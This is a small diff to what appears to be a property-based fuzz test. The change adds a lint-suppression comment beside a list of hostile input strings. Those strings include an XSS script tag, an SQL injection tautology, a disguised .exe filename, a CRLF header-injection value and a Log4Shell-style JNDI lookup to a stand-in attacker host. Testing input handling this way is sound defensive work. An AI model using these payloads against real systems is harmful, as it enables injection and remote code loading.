@@ -13,6 +13,7 @@ const hostileText = fc.oneof(
     "admin\u202etxt.exe",
     "<script>alert(1)</script>\u0001",
     "' OR 1=1 --\u0000",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's text, not a template
     "${jndi:ldap://attacker.test}\u0008",
     "a\r\nSet-Cookie: b=c",
     "",
